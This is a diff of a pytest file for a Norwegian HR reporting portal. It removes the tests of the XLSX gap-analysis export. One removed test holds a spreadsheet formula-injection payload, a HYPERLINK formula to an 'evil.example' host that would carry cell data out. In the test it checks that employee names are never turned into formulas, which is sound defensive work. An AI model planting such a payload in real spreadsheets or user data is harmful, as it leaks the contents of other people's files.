@@ -4,11 +4,9 @@ from __future__ import annotations
 
 import csv
 import io
-import zipfile
 from datetime import date
 
 import pytest
-from openpyxl import load_workbook
 from sqlalchemy import event
 
 from portal.org.models import Person
@@ -195,23 +193,6 @@ def test_requirements_follow_a_position_change_at_once(client, auth, db, gap_org
     assert "ansatt@b.test" not in {r["employee_email"] for r in after}  # no requirements now
 
 
-def test_xlsx_has_matrix_and_summary(client, auth, gap_org):
-    auth.login(gap_org.lead_a)
-    response = client.get("/reports/gaps.xlsx")
-    assert response.status_code == 200
-    book = load_workbook(io.BytesIO(response.data))
-    assert book.sheetnames == ["Gapanalyse", "Sammendrag"]
-    rows = list(book["Gapanalyse"].iter_rows(values_only=True))
-    assert rows[0] == ("Navn", "E-post", "Enhet", "Stilling", "HLR", "Taushetsplikt")
-    assert rows[1][:4] == ("Ansatt A", "ansatt@a.test", "Enhet A", "Helsesekretær")
-    assert rows[1][4].startswith("Utløper snart")
-    assert rows[1][5] == "Mangler"
-    fill = book["Gapanalyse"].cell(row=2, column=5).fill.fgColor.rgb
-    assert fill.endswith("FFF1D6")
-    summary = [v for row in book["Sammendrag"].iter_rows(values_only=True) for v in row]
-    assert "JA" in summary  # the coverage breach
-
-
 def test_queries_do_not_grow_with_people(app, client, auth, gap_org, make_person, make_record):
     auth.login(gap_org.admin)
 
@@ -267,17 +248,3 @@ def test_large_organisation_reads_one_page_and_summarises_apart(
     summary = client.get("/reports/gaps/summary")
     assert summary.status_code == 200
     assert "<svg" in summary.get_data(as_text=True)
-
-
-def test_xlsx_never_turns_a_name_into_a_formula(client, auth, gap_org, make_person):
-    formula = '=HYPERLINK("https://evil.example/?"&A1,"Klikk")'
-    make_person(unit=gap_org.a, position=gap_org.position, name=formula)
-    auth.login(gap_org.lead_a)
-    data = client.get("/reports/gaps.xlsx").data
-    with zipfile.ZipFile(io.BytesIO(data)) as archive:
-        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
-    assert "<f>" not in sheet
-    names = [
-        row[0] for row in load_workbook(io.BytesIO(data))["Gapanalyse"].iter_rows(values_only=True)
-    ]
-    assert formula in names
